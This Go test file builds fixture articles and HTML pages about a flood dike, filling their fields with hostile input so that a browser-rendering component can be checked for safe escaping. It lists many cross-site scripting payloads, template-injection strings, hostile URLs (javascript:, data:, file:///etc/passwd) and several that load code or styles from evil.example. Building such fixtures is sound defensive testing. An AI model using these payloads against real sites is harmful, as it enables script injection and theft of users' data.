package browsertest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// shared stands in every made article, so that one search finds all of them.
const shared = "堤坝"

// broken is replaced by bytes that are not UTF-8 when an article is written.
const broken = "@@broken@@"

// attacks are texts that a page must show as they are, and do nothing else with.
func attacks() []string {
	return []string{
		"坏" + broken + "字节", `<script>window.hit=1;alert(1)</script>`, `</script><script>window.hit=1</script>`, `<script src=//evil.example/x.js></script>`,
		`<ScRiPt >window.hit=1</ScRiPt >`, `<scr<script>ipt>window.hit=1</scr</script>ipt>`, `<script type=module>window.hit=1</script>`,
		`<img src=x onerror=window.hit=1>`, `<img src="https://evil.example/pixel.gif">`, `<image href=https://evil.example/a>`, `<img/src/onerror=window.hit=1>`,
		`<svg onload=window.hit=1>`, `<svg><script>window.hit=1</script></svg>`, `<svg><a xlink:href="javascript:window.hit=1"><text y=20>点我</text></a></svg>`,
		`<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.hit=1>#x"/></svg>`,
		`<math><mtext><table><mglyph><style><img src onerror=window.hit=1>`, `<iframe src=javascript:window.hit=1></iframe>`, `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
		`<object data=https://evil.example/o></object>`, `<embed src=https://evil.example/e>`, `<video src=x onerror=window.hit=1 autoplay>`, `<audio src=x onerror=window.hit=1>`,
		`<body onload=window.hit=1>`, `<input onfocus=window.hit=1 autofocus>`, `<details open ontoggle=window.hit=1><summary>开</summary></details>`, `<marquee onstart=window.hit=1>`,
		`<base href=https://evil.example/>`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<link rel=stylesheet href=https://evil.example/a.css>`, `<style>@import "https://evil.example/b.css";*{display:none}</style>`,
		`<form action=https://evil.example/><button>送</button></form>`, `<a href="javascript:window.hit=1">链接</a>`, `<a href="data:text/html,<script>alert(1)</script>">链接</a>`,
		`" onmouseover="window.hit=1" x="`, `' onfocus='window.hit=1' autofocus x='`, "` onclick=window.hit=1 `", `"><script>window.hit=1</script><b x="`, `--><script>window.hit=1</script><!--`, `]]><script>window.hit=1</script><![CDATA[`,
		`</title><script>window.hit=1</script>`, `</textarea><script>window.hit=1</script>`, `</bdi></mark></p></article><h1>假标题</h1>`, `</style><script>window.hit=1</script>`, `<!--`, `<![CDATA[ x`, `<?xml version="1.0"?><x/>`,
		`{{.Title}}{{template "base" .}}{{define "main"}}x{{end}}`, `${window.hit=1}`, `<%= 7*7 %>`, `#{7*7}`, `{{constructor.constructor('window.hit=1')()}}`, `[[${7*7}]]`,
		`&lt;script&gt;window.hit=1&lt;/script&gt;`, `&#60;script&#62;window.hit=1&#60;/script&#62;`, `\u003cscript\u003ewindow.hit=1\u003c/script\u003e`, `%3Cscript%3Ewindow.hit=1%3C/script%3E`, `+ADw-script+AD4-window.hit=1+ADw-/script+AD4-`,
		"\u202e倒过来的字\u202d\u2066隔开\u2069\u200f", "零\u200b宽\u200d字\ufeff符\u2060间", "空\u0000字节\u0007铃\u001b[31m红", "全角＜script＞window.hit=1＜/script＞", "行\u2028分\u2029段\u0085符",
		strings.Repeat("长", 400), strings.Repeat("W", 3000), strings.Repeat("é\u0301\u0323", 300), strings.Repeat("👩‍👩‍👧‍👦", 60), "a" + strings.Repeat("\u0336\u0489", 80), "https://evil.example/" + strings.Repeat("路径/", 150),
	}
}

// addresses are hostile originals.
func addresses() []string {
	return []string{
		"javascript:window.hit=1", "JaVaScRiPt:window.hit=1//https://", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", " javascript:window.hit=1", "java\tscript:window.hit=1",
		`https://evil.example/" onmouseover="window.hit=1`, "https://evil.example/?q=<script>window.hit=1</script>", "//evil.example/protocol", "file:///etc/passwd", "https://user:pass@evil.example/",
		"http://[::1", "https://evil.example/\u202egpj.exe", "blob:https://evil.example/1", "about:blank#<script>", "https://例子.example/路径?a=1&b=<2>",
	}
}

// made is how many articles are made of texts as JSON Lines, which must be UTF-8, and madePages how many as pages, which need not.
const (
	made      = 200
	madePages = 16
)

// writeMade writes articles made of texts into a folder. First each text stands in every field of an article, then in the title of one, then in
// what is known beside title and body.
func writeMade(t *testing.T, texts, links []string) string {
	t.Helper()
	dir := t.TempDir()
	var lines bytes.Buffer
	for n := range made {
		text, round := texts[n%len(texts)], n/len(texts)
		article := map[string]any{"id": fmt.Sprintf("made-%03d", n), "title": fmt.Sprintf("%s第%d号", shared, n), "body": shared + "的正文。\n第二段。", "source": "云浦日报",
			"published": fmt.Sprintf("2024-%02d-%02dT08:00:00+08:00", n%12+1, n%28+1), "url": links[n%len(links)]}
		if round < 2 {
			article["title"] = fmt.Sprintf("%s%s第%d号", text, shared, n)
		}
		if round == 0 {
			article["body"] = strings.Join([]string{text, shared + text, "第" + text + "段。"}, "\n")
		}
		if round != 1 {
			for _, field := range []string{"source", "site", "author", "category"} {
				article[field] = text
			}
			article["tags"], article["editors"], article["lang"] = []string{text, "乙" + text}, []string{text}, text
			article["id"] = fmt.Sprintf("made-%03d/%.60s", n, text)
		}
		encoded, err := json.Marshal(article)
		if err != nil {
			t.Fatal(err)
		}
		lines.Write(bytes.ReplaceAll(encoded, []byte(broken), []byte("\xff\xfe\xc0\xaf")))
		lines.WriteByte('\n')
	}
	write := func(name string, content []byte) {
		if err := os.WriteFile(filepath.Join(dir, name), content, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("articles.jsonl", lines.Bytes())
	for n := range madePages {
		text := texts[n*5%len(texts)]
		page := fmt.Appendf(nil, "<!doctype html><html><head><meta charset=utf-8><title>%[2]s网页第%[1]d号</title></head><body><article><h1>%[2]s网页第%[1]d号</h1><p>2024-05-%02[4]d 来源：%[3]s</p>"+
			"<p>%[2]s的水位今晨退到警戒线以下，值守的人换了第三班。%[3]s</p><p>镇上的广播说，下午三点开闸，沿河的住户请把船系牢。%[3]s</p><p>记者在现场看到，新修的一段没有渗水。</p></article></body></html>", n, shared, text, n+1)
		write(fmt.Sprintf("page-%02d.html", n), bytes.ReplaceAll(page, []byte(broken), []byte("\xff\xfe\xc0\xaf")))
	}
	return dir
}
